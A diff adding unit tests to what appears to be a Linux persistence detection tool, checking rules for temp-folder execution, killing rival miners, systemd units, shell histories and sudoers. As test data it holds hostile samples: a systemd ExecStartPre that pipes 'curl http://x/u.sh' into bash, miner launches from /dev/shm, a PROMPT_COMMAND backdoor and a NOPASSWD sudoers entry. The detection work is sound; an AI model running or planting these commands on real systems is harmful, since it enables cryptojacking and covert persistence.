@@ -2,6 +2,8 @@
 
 #include <gtest/gtest.h>
 
+#include <map>
+
 #include "formats/crontab/crontab.h"
 #include "normalize/normalize.h"
 
@@ -78,6 +80,68 @@ TEST(LinuxPersistence, AuthorizedKeysBecomeEvents) {
   EXPECT_EQ(*events[0].get(model::Field::User), "deploy");
   EXPECT_EQ(*events[0].get(model::Field::Details), "ssh-ed25519 worm@x");
   EXPECT_EQ(*events[1].get(model::Field::LineNumber), "3");
+}
+
+TEST(LinuxPersistence, OnlyTheCommandPositionCountsForTempFolders) {
+  // Debian's own init scripts mention /dev/shm and /tmp/.X11-unix without running anything from there.
+  EXPECT_FALSE(runs_from_temp_or_hidden("if mountpoint -q /dev/shm/; then"));
+  EXPECT_FALSE(runs_from_temp_or_hidden("umount -n -l /dev/shm/"));
+  EXPECT_FALSE(runs_from_temp_or_hidden("DIR=\"/tmp/$1\""));
+  EXPECT_FALSE(runs_from_temp_or_hidden("mkdir -p /tmp/.X11-unix && chmod 1777 /tmp/.X11-unix"));
+  EXPECT_TRUE(runs_from_temp_or_hidden("nohup /dev/shm/.x/xmr >/dev/null 2>&1 &"));
+  EXPECT_TRUE(runs_from_temp_or_hidden("chmod +x /tmp/k; timeout 600 /tmp/k"));
+  EXPECT_TRUE(runs_from_temp_or_hidden("sh /var/tmp/.s"));
+  EXPECT_TRUE(runs_from_temp_or_hidden("LD_LIBRARY_PATH=/x /tmp/.hid/run"));
+}
+
+TEST(LinuxPersistence, CompetitorKilling) {
+  EXPECT_TRUE(kills_competitors("pkill -f xmrig"));
+  EXPECT_TRUE(kills_competitors("killall -9 kdevtmpfsi kinsing"));
+  EXPECT_TRUE(kills_competitors("ps aux | grep -v grep | awk '{if($3>40.0) print $2}' | xargs -I % kill -9 %"));
+  EXPECT_TRUE(kills_competitors("netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %"));
+  EXPECT_FALSE(kills_competitors("pkill -HUP nginx"));
+  EXPECT_FALSE(kills_competitors("kill -9 $(cat /run/app.pid)"));
+}
+
+TEST(LinuxPersistence, SystemdScriptsHistoriesAndSudoers) {
+  Diagnostics d;
+  std::vector<model::Event> unit, script, history, sudo;
+  ASSERT_TRUE(normalize::systemd_unit_events(
+      as_bytes("[Unit]\nDescription=System update\n[Service]\nExecStartPre=-/bin/sh -c 'curl -fsSL http://x/u.sh \\\n | bash'\n"
+               "ExecStart=/usr/bin/nginx\n[Install]\nWantedBy=multi-user.target\n"),
+      {"/etc/systemd/system/sysupdate.service", "linux"}, d, unit));
+  ASSERT_EQ(unit.size(), 2u);
+  EXPECT_EQ(*unit[0].get(model::Field::CommandLine), "/bin/sh -c 'curl -fsSL http://x/u.sh  | bash'");  // continued, prefix gone
+  EXPECT_EQ(*unit[0].get(model::Field::ServiceName), "sysupdate.service");
+  EXPECT_EQ(*unit[0].get(model::Field::Description), "System update");
+  EXPECT_EQ(*unit[0].get("WantedBy"), "multi-user.target");
+
+  ASSERT_TRUE(normalize::script_line_events(as_bytes("#!/bin/sh\n# comment\nexport PROMPT_COMMAND='/tmp/.x/r &'\n"),
+                                            {"/root/.bashrc", "linux"}, d, script));
+  ASSERT_EQ(script.size(), 1u);
+  ASSERT_TRUE(normalize::history_events(as_bytes("#1700000000\ncd /tmp\npkill -f xmrig\n"), {"/root/.bash_history", "linux"}, d, history));
+  ASSERT_EQ(history.size(), 2u);
+  ASSERT_TRUE(history[0].time);
+  EXPECT_EQ(to_iso8601(*history[0].time, 0), "2023-11-14T22:13:20Z");
+  EXPECT_FALSE(history[1].time);
+  EXPECT_EQ(*history[1].get(model::Field::User), "root");
+  ASSERT_TRUE(normalize::sudoers_events(
+      as_bytes("Defaults env_reset\n%sudo ALL=(ALL:ALL) ALL\nroot ALL=(ALL) ALL\nsystemd-net ALL=(ALL) NOPASSWD: ALL\n#includedir /etc/sudoers.d\n"),
+      {"/etc/sudoers", "linux"}, d, sudo));
+  ASSERT_EQ(sudo.size(), 3u);
+
+  auto engine = make_linux_persistence_engine();
+  std::map<std::string, int> rules;
+  for (auto* events : {&unit, &script, &history, &sudo}) {
+    std::vector<model::Finding> out;
+    engine->scan_artefact({"x", "", "", "linux", "", *events}, out);
+    for (const auto& f : out) ++rules[f.rule_id];
+  }
+  EXPECT_EQ(rules[std::string(kAutostartDownloadRule)], 1);
+  EXPECT_EQ(rules[std::string(kPromptCommandRule)], 1);
+  EXPECT_EQ(rules[std::string(kCompetitorKillRule)], 1);
+  EXPECT_EQ(rules[std::string(kSudoersRule)], 1);  // systemd-net, not root or %sudo
+  EXPECT_EQ(rules.size(), 4u);
 }
 
 }  // namespace
